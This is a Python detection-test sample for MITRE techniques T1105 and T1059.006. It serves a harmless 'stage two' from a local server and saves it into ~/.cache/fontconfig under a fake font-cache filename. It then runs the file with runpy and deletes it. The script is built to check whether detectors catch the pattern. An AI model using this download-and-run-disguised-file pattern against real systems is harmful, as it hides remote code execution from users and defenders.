# technique: T1105 T1059.006
"""Ingress tool transfer to a dot-directory, then runpy.run_path of the downloaded file (T1105, T1059.006).

urllib.request.urlretrieve writes the stage under $HOME/.cache with a
name that looks like a cache entry and no .py suffix; runpy.run_path runs
it as a script. The code is a file by the time it runs, so the
"downloaded text goes to exec" link runs through the file system.

A good detector raises a high alert: a file written from a network
download is executed as Python code.
"""
import http.server
import os
import runpy
import threading
import urllib.request

def serve(files):
    """Our own HTTP server on 127.0.0.1 (port 0) in a thread, serving {path: bytes}."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return "http://127.0.0.1:%d" % server.server_address[1], server

base, server = serve({"/pkg/latest": b"import os\nmarker = os.path.join(os.path.expanduser('~'), '.stage2')\nwith open(marker, 'w') as f:\n    f.write(str(os.getpid()))\nprint('stage two ran in', os.getpid())\n"})
cache = os.path.join(os.path.expanduser("~"), ".cache", "fontconfig")
os.makedirs(cache, exist_ok=True)
target = os.path.join(cache, "c6f3f9b2a1-le64.cache-7")
urllib.request.urlretrieve(base + "/pkg/latest", target)
runpy.run_path(target, run_name="__main__")
os.unlink(target)
server.shutdown()
